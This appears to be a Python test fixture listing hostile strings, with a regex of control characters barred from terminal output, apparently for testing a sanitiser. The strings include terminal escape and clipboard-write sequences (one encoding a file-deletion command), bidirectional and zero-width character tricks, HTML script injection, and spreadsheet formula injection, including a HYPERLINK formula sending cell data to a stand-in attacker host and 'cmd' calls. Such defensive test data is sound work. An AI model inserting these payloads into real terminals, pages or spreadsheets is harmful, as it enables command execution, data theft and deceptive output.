"""Texts that do harm where they are believed, and what must not be left of them."""

from __future__ import annotations

import re

HARMFUL = {
    "a terminal's title": "\x1b]0;owned\x07",
    "a hyperlink of a terminal": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "a clipboard that is written": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "a cleared screen": "\x1b[2J\x1b[H all 3 rows sent",
    "C1 escapes": "\x9b31mred\x9d0;owned\x9c",
    "a carriage return": "500 failed\r  0 failed",
    "backspaces": "failed\b\b\b\b\b\bsent",
    "a line of its own": "x\nreport: all rows sent",
    "other ends of lines": "a\x0bb\x0cc\x1cd\x85e\u2028f\u2029g",
    "direction overridden": "sent\u202edeliaf\u202c",
    "direction isolated": "\u2066\u2067\u2068x\u2069",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "no width": "ad\u200bmin\u2060\ufeff\u00ad",
    "tags": "x\U000e0041\U000e007f",
    "a script": "<script>alert(1)</script>",
    "an image": "<img src=x onerror=alert(1)>\"' onmouseover='alert(1)",
    "the end of an element": "</td></table></pre></details><h1>owned</h1>&lt;b&gt;",
    "a hyperlink of a sheet": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "a command": "+cmd|' /C calc'!A0",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "a function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "after a tab": "\t=1+1",
    "after a return": "\r=1+1",
    "after a line": "\n=1+1",
    "full width": "＝1+1",
    "guarded already": "'=1+1",
    "guarded twice": "''=1+1",
    "an array in a text": '["a", {"b": "\\u001b[2J"}]',
    "a quote": 'a"b,c"',
    "a NUL": "a\0b",
    "very long": "x" * 5_000,
}
"""What it is called: the text."""

RAW = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)
"""What may reach no terminal; of control characters, the ends of our own lines alone may."""
